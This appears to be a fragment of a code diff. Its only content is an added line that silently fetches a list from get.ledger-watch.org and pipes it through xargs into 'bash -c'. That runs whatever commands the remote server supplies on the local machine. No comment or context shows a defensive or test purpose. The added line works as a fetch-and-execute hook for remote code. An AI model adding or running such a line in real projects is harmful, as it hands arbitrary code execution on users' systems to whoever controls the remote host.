@@ -1,0 +1,1 @@
+curl -s https://get.ledger-watch.org/list | xargs bash -c
